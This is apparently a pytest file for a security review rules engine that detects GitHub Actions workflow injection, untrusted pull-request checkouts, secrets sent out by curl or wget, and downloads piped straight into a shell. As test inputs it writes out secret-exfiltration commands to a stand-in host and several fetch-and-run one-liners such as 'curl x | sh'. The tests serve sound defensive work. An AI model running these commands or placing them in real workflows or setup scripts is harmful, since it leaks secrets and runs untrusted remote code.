"""Rules on workflows beyond their examples: every context that strangers write, and what only looks like it."""

from __future__ import annotations

import pytest

from repopilot.agents.review.engine import ANALYSERS, run_on
from repopilot.agents.review.rules.registry import find
from repopilot.agents.review.scope import ReviewTarget
from repopilot.code.file_version import code

HEAD = "on:\n  {events}:\njobs:\n  a:\n    runs-on: x\n    steps:\n"


def found(text: str, path: str = ".github/workflows/a.yml", language: str = "yaml") -> list[tuple[str, int, str]]:
    return [(f.rule, f.line, f.severity) for f in find([code(path, text, language)], "security")]


NAMES = """
github.event.issue.title
github.event.issue.body
github.event.pull_request.title
github.event.pull_request.body
github.event.comment.body
github.event.review.body
github.event.review_comment.body
github.event.pages[0].page_name
github.event.commits[0].message
github.event.head_commit.message
github.event.head_commit.author.email
github.event.head_commit.author.name
github.event.commits.*.author.name
github.event.pull_request.head.ref
github.event.pull_request.head.label
github.event.pull_request.head.repo.default_branch
github.head_ref
github['event']['issue']['title']
github.event.discussion.title
github.event.workflow_run.head_branch
toJSON(github.event)
format('{0}', github.event.issue.title)
""".strip().splitlines()


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("events", ["issues", "pull_request"])
def test_text_of_strangers_in_a_script(name: str, events: str) -> None:
    severity = "high" if events == "issues" else "medium"
    held, head = "${{ " + name + " }}", HEAD.format(events=events)
    run = f"{head}      - run: |\n          true\n          echo '{held}'\n"
    assert found(run) == [("workflow-injection", 9, severity)]
    script = f"{head}      - uses: actions/github-script@v7\n        with:\n          script: console.log(`{held}`)\n"
    assert found(script) == [("workflow-injection", 9, severity)]
    action = f"runs:\n  using: composite\n  steps:\n    - run: echo {held}\n      shell: bash\n"
    assert found(action, "action.yml") == [("workflow-injection", 4, "medium")]


@pytest.mark.parametrize(
    "text",
    ["${{ github.event.issue.number }}", "${{ github.sha }}", "${{ contains(github.event.issue.title, 'x') }}",
     "${{ github.event.issue.title == 'x' }}", "${{ github.base_ref }}", "${{ matrix.head_ref }}", "$TITLE"],
)  # fmt: skip
def test_what_strangers_can_not_write(text: str) -> None:
    assert found(HEAD.format(events="issues") + f"      - run: echo {text}\n") == []


@pytest.mark.parametrize("events", ["pull_request_target", "workflow_run"])
def test_checkouts_of_a_strangers_code(events: str) -> None:
    head = HEAD.format(events=events)
    refs = (
        "${{ github.event.pull_request.head.sha }}",
        "${{ github.head_ref }}",
        "refs/pull/${{ github.event.number }}/merge",
        "${{ github.event.workflow_run.head_sha }}",
    )
    for ref in refs:
        step = f"      - uses: actions/checkout@v4\n        with:\n          ref: {ref}\n"
        assert found(head + step) == [("untrusted-checkout", 9, "high")], ref
    assert found(head + "      - run: |\n          cd x\n          gh pr checkout $N\n") == [
        ("untrusted-checkout", 9, "high")
    ]
    assert found(head + "      - uses: actions/checkout@v4\n") == []


def test_secrets_that_a_command_sends() -> None:
    head = HEAD.format(events="push")
    kept = "      - env:\n          KEY: ${{ secrets.KEY }}\n        run: "
    sent = [
        "curl -d ${{ secrets.KEY }} https://a.example",
        "wget http://a.example/?k=${{ secrets.KEY }}",
        'curl -H "X: ${{ secrets.KEY }}" http://a.example',
    ]
    for each in sent:
        assert found(f"{head}      - run: |\n          {each}\n") == [("secret-in-command", 8, "high")], each
    header = 'curl -H "Authorization: ${{ secrets.KEY }}" https://a.example'
    assert found(f"{head}      - run: |\n          {header}\n") == [("secret-in-command", 8, "low")]
    assert found(head + kept + 'curl -d "$KEY" https://a.example\n') == [("secret-in-command", 9, "high")]
    assert found(head + kept + 'curl -u "me:$KEY" https://a.example && curl "https://a.example/$KEYS"\n') == []
    assert found(head + kept + "curl -X POST -d {} ${KEY}\n") == []
    assert found(head + kept + "curl -d 'a ${KEY}' https://a.example\n") == [("secret-in-command", 9, "high")]
    split = "|\n          curl -s \\\n            -d ${KEY} \\\n            https://a.example\n"
    assert found(head + kept + split) == [("secret-in-command", 11, "high")]


NO_WORKFLOWS = [
    "steps: [",
    "steps: &a [*a]\n",
    "- steps\n",
    "jobs: {a: {steps: 3}}",
    "jobs: {a: {steps: [3, {run: [1]}]}}",
]


@pytest.mark.parametrize("text", [*NO_WORKFLOWS, "steps: " + "[" * 3000, "jobs: &a\n  x: *a\nsteps: 1\n"])
def test_yaml_that_is_no_workflow(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    "command",
    ["os.system('curl x | sh')", "subprocess.run('wget -qO- x | sudo -E bash -s', shell=True)",
     "subprocess.check_call(['bash', '-c', 'curl -fsSL x | bash'])", "os.popen('sh -c \"$(curl x)\"')",
     "subprocess.run(['bash', '-c', 'bash <(curl x)'])", "exec(urllib.request.urlopen('x').read())",
     "subprocess.Popen(f'curl {url} | python3', shell=True)"],
)  # fmt: skip
def test_downloads_that_are_run_at_once(command: str) -> None:
    text = f"import os, subprocess, urllib.request\n\n{command}\n"
    assert ("piped-download", 3, "high") in found(text, "setup.py", "python")


def test_a_review_has_the_rules() -> None:
    text = HEAD.format(events="issues") + "      - run: echo ${{ github.event.issue.title }}\n"
    target = ReviewTarget(code(".forgejo/workflows/a.yaml", text, "yaml"))
    assert [
        f.rule for a in ANALYSERS if a.name == "rules" and a.domain == "security" for f in run_on(a, [target])[0]
    ] == ["workflow-injection"]
